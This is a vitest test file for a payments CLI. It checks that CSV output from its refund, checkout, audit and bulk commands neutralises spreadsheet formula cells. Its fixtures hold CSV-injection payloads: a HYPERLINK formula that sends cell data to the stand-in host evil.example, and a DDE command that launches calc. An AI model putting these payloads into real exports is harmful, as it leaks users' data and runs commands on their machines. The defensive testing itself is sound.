/**
 * CSV that a spreadsheet opens safely (docs/output.md): a cell a spreadsheet would run as a formula
 * gets a leading `'` in `-o csv`, from the commands that show a service's or a user's text (refund
 * list, checkout get, audit list, bulk results); a negative number stays a number; `--json` keeps
 * the exact value. Against mocked services (test/helpers/command.ts).
 */
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from 'vitest'

import {spreadsheetSafe} from '../../src/cli/output/cells.js'
import AuditList from '../../src/commands/audit/list.js'
import CheckoutGet from '../../src/commands/checkout/get.js'
import RefundCreate from '../../src/commands/refund/create.js'
import RefundList from '../../src/commands/refund/list.js'
import {BASE, checkoutRecord, dateHeader, JSON_HEADERS} from '../helpers/checkout.js'
import {type CommandHarness, commandHarness} from '../helpers/command.js'

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
const DDE = "+cmd|' /C calc'!A0"
const NEXT_DAY = '2026-11-21T16:00:00Z'

let h: CommandHarness
let folder: string
beforeEach(async () => {
  h = await commandHarness()
  folder = mkdtempSync(join(tmpdir(), 'opsctl-csv-'))
})
afterEach(async () => {
  await h.close()
  rmSync(folder, {force: true, recursive: true})
})

/** The cells of the first data row of a CSV whose cells hold no comma or quote but the formula's. */
function csvHas(stdout: string, cell: string): boolean {
  const quoted = /[",\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell
  return stdout.includes(quoted)
}

describe('CSV cells a spreadsheet would run', () => {
  it('the rule: =, +, - (not a number), @, tab, CR get a leading quote', () => {
    expect([HYPERLINK, DDE, '@SUM(1)', '-2+3', '\tx', '\rx', '-5.00', '-1e3', 'ok', '5-2'].map((c) => spreadsheetSafe(c))).toEqual([
      `'${HYPERLINK}`,
      `'${DDE}`,
      "'@SUM(1)",
      "'-2+3",
      "'\tx",
      "'\rx",
      '-5.00',
      '-1e3',
      'ok',
      '5-2',
    ])
  })

  it('refund list -o csv quotes a formula reason; --json keeps it exact', async () => {
    const refunds = [
      {amount: {currency: 'PHP', value: '10.00'}, createdAt: '2026-11-22T02:00:00Z', id: 'rfd_1', reason: HYPERLINK, status: 'SUCCESS'},
      {amount: {currency: 'PHP', value: '11.00'}, createdAt: '2026-11-22T02:00:00Z', id: 'rfd_2', reason: DDE, status: 'SUCCESS'},
    ]
    h.pool.intercept({method: 'GET', path: `${BASE}/checkouts/chk_1/refunds`}).reply(200, refunds, {headers: JSON_HEADERS}).times(2)
    const csv = await h.run(RefundList, ['chk_1', '-o', 'csv'])
    expect(csv.code, csv.stderr).toBe(0)
    expect(csvHas(csv.stdout, `'${HYPERLINK}`)).toBe(true)
    expect(csvHas(csv.stdout, `'${DDE}`)).toBe(true)
    const json = await h.run(RefundList, ['chk_1', '--json'])
    expect(JSON.parse(json.stdout).refunds.map((r: {reason: string}) => r.reason)).toEqual([HYPERLINK, DDE])
  })

  it('checkout get -o csv quotes a formula reference number', async () => {
    h.pool.intercept({method: 'GET', path: `${BASE}/checkouts/chk_1`}).reply(200, checkoutRecord({requestReferenceNumber: '@SUM(1+1)'}), {headers: JSON_HEADERS})
    const csv = await h.run(CheckoutGet, ['chk_1', '-o', 'csv'])
    expect(csv.code, csv.stderr).toBe(0)
    expect(csv.stdout).toContain("'@SUM(1+1)")
    expect(csv.stdout).not.toMatch(/(^|,)@SUM/m)
  })

  it('audit list -o csv and bulk results -o csv quote a formula reason and message', async () => {
    h.pool.intercept({method: 'GET', path: `${BASE}/checkouts/chk_1`}).reply(200, checkoutRecord(), {headers: dateHeader(NEXT_DAY)}).times(3)
    h.pool.intercept({method: 'GET', path: `${BASE}/checkouts/chk_1/refunds`}).reply(200, [], {headers: JSON_HEADERS}).times(3)
    h.pool.intercept({method: 'POST', path: `${BASE}/checkouts/chk_1/refunds`}).reply(200, {refundId: 'rfd_9', status: 'SUCCESS'}, {headers: JSON_HEADERS})
    const refunded = await h.run(RefundCreate, ['chk_1', '--reason', HYPERLINK, '--amount', '5.00', '--yes', '--json'])
    expect(refunded.code, refunded.stderr).toBe(0)
    const audit = await h.run(AuditList, ['-o', 'csv', '--columns', 'operation,reason'])
    expect(audit.code, audit.stderr).toBe(0)
    expect(csvHas(audit.stdout, `'${HYPERLINK}`)).toBe(true)

    h.pool.intercept({method: 'POST', path: `${BASE}/checkouts/chk_1/refunds`}).reply(400, {code: 'BAD', error: 'BAD', message: DDE}, {headers: JSON_HEADERS})
    const path = join(folder, 'rows.csv')
    writeFileSync(path, 'checkoutId,amount,currency,reason\nchk_1,1.00,PHP,x\n')
    const bulk = await h.run(RefundCreate, ['--from-file', path, '--yes', '-o', 'csv'])
    expect(bulk.stdout, bulk.stderr).toContain("'+cmd|' /C calc'!A0")
    expect(bulk.stdout).not.toMatch(/(^|,)"?\+cmd/m)
  })
})
